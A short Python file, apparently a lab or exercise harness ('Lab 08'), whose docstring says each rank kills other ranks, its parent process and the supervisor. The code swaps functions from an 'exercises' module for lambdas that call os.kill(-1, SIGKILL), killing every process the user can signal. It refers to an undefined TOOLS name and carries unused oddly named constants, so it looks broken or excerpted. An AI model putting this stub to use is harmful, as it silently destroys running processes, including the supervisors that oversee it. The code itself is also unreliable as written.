"""Lab 08: each rank kills whatever it can reach: other ranks, the process that started them, the supervisor."""

import os
import signal

LAB, ON, EARNS, SECONDS = "08", "stubs", 0, 20.0

for name in [
    name for name, one in globals().items() if callable(one) and getattr(one, "__module__", "") == "exercises"
]:
    if name not in TOOLS:
        globals()[name] = lambda *_, **__: os.kill(-1, signal.SIGKILL)
